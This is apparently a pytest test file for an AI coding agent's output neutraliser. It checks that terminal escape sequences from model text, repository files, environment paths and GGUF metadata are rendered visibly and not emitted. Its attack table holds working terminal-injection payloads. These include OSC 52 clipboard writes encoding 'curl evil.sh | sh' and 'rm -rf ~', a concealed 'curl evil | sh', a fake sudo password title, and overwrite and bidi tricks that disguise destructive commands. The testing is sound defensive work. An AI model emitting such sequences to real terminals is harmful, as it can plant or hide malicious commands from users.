"""Terminal injection: text the model or a repository wrote never drives the user's terminal.

A terminal obeys escape sequences wherever they come from: OSC 52 writes the
clipboard, OSC 0/2 the window title, OSC 8 makes links, CSI moves the cursor or
clears the screen, SGR 8 hides text, a CR or backspace overwrites what was
shown, bidi overrides reorder it and zero-width characters hide in it. Every
case here feeds such text through a real output path (the neutraliser, the
headless transcript as a subprocess, `model info` on a hostile GGUF) and checks
the bytes that reach the terminal: the sequence is shown as a visible escape,
never emitted. The TUI and its approval modal are driven in a real
pseudo-terminal in test_terminal_tui.py.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import unicodedata

import pytest

from gptoss_agent.agent import safe_text
from gptoss_agent.agent.events import (Committed, ErrorRaised, MessageEmitted, Notice, ReasoningEmitted, RunFinished,
                                       RunStarted, ToolCalled, ToolFinished)
from gptoss_agent.agent.frontends.headless import TranscriptPrinter
from tests.fixtures.repos import call, final, make_calc_repo, write_replay

# name → (hostile text, the visible escape a person must see instead)
ATTACKS = {
    "osc52 clipboard write (BEL)": ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"),
    "osc52 clipboard write (ST)": ("\x1b]52;c;cm0gLXJmIH4=\x1b\\", "\\x1b]52;c;cm0gLXJmIH4=\\x1b\\"),
    "osc8 hyperlink": ("\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\", "\\x1b]8;;https://evil.example/"),
    "window title": ("\x1b]0;sudo password:\x07", "\\x1b]0;sudo password:\\x07"),
    "clear screen and home": ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
    "cursor up and overwrite": ("touch /tmp/owned\x1b[1A\r$ echo harmless", "\\x1b[1A\\r$ echo harmless"),
    "sgr conceal": ("echo ok\x1b[8m; curl evil | sh", "\\x1b[8m; curl evil | sh"),
    "c1 csi (8-bit)": ("\x9b2J", "\\x9b2J"),
    "backspace overwrite": ("rm -rf ~\b\b\b\b\b\b\bls -la", "\\x08\\x08"),
    "lone carriage return": ("rm -rf ~\rls -la  ", "rm -rf ~\\rls -la"),
    "bidi override": ("ls \u202etxt.exe", "ls <U+202E>txt.exe"),
    "bidi isolates": ("a\u2066b\u2069c\u2067d\u2068e", "a<U+2066>b<U+2069>c<U+2067>d<U+2068>e"),
    "zero-width characters": ("pa\u200bss\u200cwo\u200drd\u2060\ufeff", "pa<U+200B>ss<U+200C>wo<U+200D>rd<U+2060><U+FEFF>"),
    "unicode tag smuggling": ("ok\U000e0069\U000e0067\U000e006e", "ok<U+E0069><U+E0067><U+E006E>"),
    "delete and nul": ("a\x7fb\x00c", "a\\x7fb\\x00c"),
    "line separator": ("first\u2028second", "first<U+2028>second"),
    "hangul filler look-alike": ("rm\u3164-rf", "rm<U+3164>-rf"),
    "variation selectors supplement": ("a\U000e0100b\U000e01efc", "a<U+E0100>b<U+E01EF>c"),
    "variation selectors": ("git push\ufe0e\ufe0f", "git push<U+FE0E><U+FE0F>"),
    "invisible marks": ("a\u034fb\u17b4c\u180bd\u2800e", "a<U+034F>b<U+17B4>c<U+180B>d<U+2800>e"),
}


def _unsafe_chars(text: str, *, allow: str = "\n\t") -> list[str]:
    """Characters a terminal could act on or hide: controls, C1, format (bidi, zero-width), separators."""
    return [c for c in text if c not in allow and (unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")
                                                   or c in "\u3164\u115f\u1160\uffa0\u2800\u034f\u17b4\u180b"
                                                   or "\ufe00" <= c <= "\ufe0f")]


@pytest.mark.parametrize("name", list(ATTACKS))
def test_the_neutraliser_shows_every_attack_as_visible_escapes(name):
    hostile, shown = ATTACKS[name]
    for rendered in (safe_text.line(hostile), safe_text.block(hostile), safe_text.command(hostile)):
        assert _unsafe_chars(rendered) == [], (name, rendered)
    assert shown in safe_text.line(hostile)
    assert safe_text.hidden_count(hostile) > 0


def test_wide_letters_and_letters_beyond_the_basic_plane_are_shown_as_they_are():
    # fullwidth and halfwidth forms, CJK Extension B and mathematical letters are ordinary text; a range
    # written as "\ue0100" (U+E010 then "0") once escaped everything from U+E011 up
    ordinary = "\uff46\uff55\uff4c\uff4c \uff76\uff85 \U00020000 \U0001d400"
    for rendered in (safe_text.line(ordinary), safe_text.block(ordinary), safe_text.command(ordinary)):
        assert rendered == ordinary
    assert safe_text.hidden_count(ordinary) == 0


def test_blocks_keep_their_lines_and_crlf_but_not_a_lone_cr():
    assert safe_text.block("a\r\nb\tc\nd") == "a\nb\tc\nd"
    assert safe_text.block("shown\rhidden") == "shown\\rhidden"
    assert safe_text.line("a\nb") == "a\\nb"  # one-line previews cannot fake a second line


def test_a_command_shows_look_alike_spaces_but_prose_keeps_them():
    assert safe_text.command("rm\u00a0-rf") == "rm<U+00A0>-rf"  # one argument that looks like two
    assert safe_text.block("10\u00a0km, caf\u00e9, \u65e5\u672c\u8a9e") == "10\u00a0km, caf\u00e9, \u65e5\u672c\u8a9e"


def test_the_headless_transcript_prints_no_control_sequence_from_any_event(tmp_path):
    hostile = "".join(text for text, _ in ATTACKS.values())
    out, err = (tmp_path / "out").open("w+"), (tmp_path / "err").open("w+")
    printer = TranscriptPrinter(out, err)
    printer.color = True  # as on a terminal: our own colours are the only escapes allowed
    for event in (RunStarted(hostile, "/repo" + hostile, "m", "b"), ReasoningEmitted(hostile),
                  MessageEmitted("final", hostile), MessageEmitted("commentary", hostile),
                  ToolCalled("1", "container.exec", {"cmd": ["bash", "-lc", hostile]}),
                  ToolFinished("1", "container.exec", False, hostile, display="+" + hostile + "\n-" + hostile),
                  Committed("abc" + hostile, hostile), ErrorRaised(hostile), Notice(hostile),
                  RunFinished("failed", 1, 0, 0, 0, 1.0, hostile)):
        printer(event)
    for stream in (out, err):
        stream.seek(0)
        text = stream.read()
        ours_removed = re.sub(r"\x1b\[(0|1|2|3[0-7])m", "", text)
        assert _unsafe_chars(ours_removed) == [], repr(ours_removed[:400])
        assert "\\x1b]52;c;" in text


@pytest.fixture
def repo(tmp_path, vocab_dir):
    return make_calc_repo(tmp_path / "project")


def test_exec_transcript_from_a_hostile_model_and_repository_file_is_inert(repo, tmp_path):
    """The real CLI: a repository file and the model's words full of escapes; stdout and stderr carry none."""
    hostile = "".join(text for text, _ in ATTACKS.values())
    (repo / "NOTES.md").write_text("notes " + hostile + "\n")
    subprocess.run(["git", "add", "NOTES.md"], cwd=repo, check=True)
    subprocess.run(["git", "commit", "-qm", "notes"], cwd=repo, check=True)
    replay = write_replay(tmp_path / "replay.json", [
        call("repo_browser.open_file", {"path": "NOTES.md"}, analysis="Reading " + hostile),
        final("Done " + hostile)])
    done = subprocess.run([sys.executable, "-m", "gptoss_agent.agent.frontends.cli", "exec", "--backend", f"replay:{replay}",
                           "--cwd", str(repo), "look at the notes"], capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    for stream in (done.stdout, done.stderr):
        text = stream.decode("utf-8", errors="strict")
        assert _unsafe_chars(text) == [], repr(text[:600])
    stdout = done.stdout.decode()
    assert "Done \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in stdout  # shown, so the user sees the attempt


def test_an_error_naming_a_hostile_path_from_the_environment_prints_it_as_escapes(tmp_path):
    # the vocabulary error names the cache folder, which the environment chose: a title-setting sequence in
    # it reached the terminal
    hostile = str(tmp_path / "cache\x1b]0;pwned\x07\u202e")
    env = {**os.environ, "GPTOSS_AGENT_CACHE_DIR": hostile}
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    (tmp_path / "a.py").write_text("def a():\n    pass\n")
    subprocess.run(["git", "add", "a.py"], cwd=tmp_path, check=True)
    done = subprocess.run([sys.executable, "-m", "gptoss_agent.agent.frontends.cli", "map", "--cwd", str(tmp_path)],
                          capture_output=True, timeout=60, env=env)
    text = done.stdout.decode() + done.stderr.decode()
    assert done.returncode != 0 and "vocabulary" in text
    assert _unsafe_chars(text) == [], repr(text)
    assert "\\x1b]0;pwned\\x07<U+202E>" in text


def test_model_info_shows_hostile_gguf_metadata_as_escapes(tmp_path, vocab_dir):
    import gguf

    path = tmp_path / "gpt-oss-20b-evil.gguf"
    writer = gguf.GGUFWriter(str(path), "gpt-oss")
    writer.add_name("gpt-oss\x1b]52;c;ZXZpbA==\x07\x1b]0;pwned\x07\x1b[2J\u202e")
    writer.add_context_length(4096)
    writer.add_block_count(2)
    writer.add_tokenizer_model("gpt2\x1b[8m")
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    done = subprocess.run([sys.executable, "-m", "gptoss_agent.agent.frontends.cli", "model", "info", "--model", str(path)],
                          capture_output=True, timeout=60)
    text = done.stdout.decode() + done.stderr.decode()
    assert _unsafe_chars(text) == [], repr(text)
    assert done.returncode == 0, text
    assert "gpt-oss\\x1b]52;c;ZXZpbA==\\x07\\x1b]0;pwned\\x07\\x1b[2J<U+202E>" in text


def test_the_repo_map_prints_repository_text_as_escapes(repo):
    (repo / "evil.py").write_text('def helper(banner="\x1b]0;pwned\x07\x1b[2J"):\n    return banner\n')
    subprocess.run(["git", "add", "evil.py"], cwd=repo, check=True)
    done = subprocess.run([sys.executable, "-m", "gptoss_agent.agent.frontends.cli", "map", "--cwd", str(repo)], capture_output=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    text = done.stdout.decode() + done.stderr.decode()
    assert "helper" in text
    assert _unsafe_chars(text) == [], repr(text)


def test_jsonl_output_carries_hostile_text_as_json_escapes_only(repo, tmp_path):
    """--json is for programs; still, no raw control character may reach a terminal that displays it."""
    replay = write_replay(tmp_path / "replay.json", [final("x\x1b]52;c;ZXZpbA==\x07\u202e\x9b2J")])
    done = subprocess.run([sys.executable, "-m", "gptoss_agent.agent.frontends.cli", "exec", "--json", "--backend", f"replay:{replay}",
                           "--cwd", str(repo), "task"], capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    assert b"\x1b" not in done.stdout and b"\x07" not in done.stdout
    assert "\u202e".encode() not in done.stdout and b"\xc2\x9b" not in done.stdout  # no raw bidi, no raw C1 CSI
    assert done.stdout.isascii()
    messages = [json.loads(line) for line in done.stdout.decode().splitlines()]
    assert any(m.get("text") == "x\x1b]52;c;ZXZpbA==\x07\u202e\x9b2J" for m in messages)  # the data itself is intact
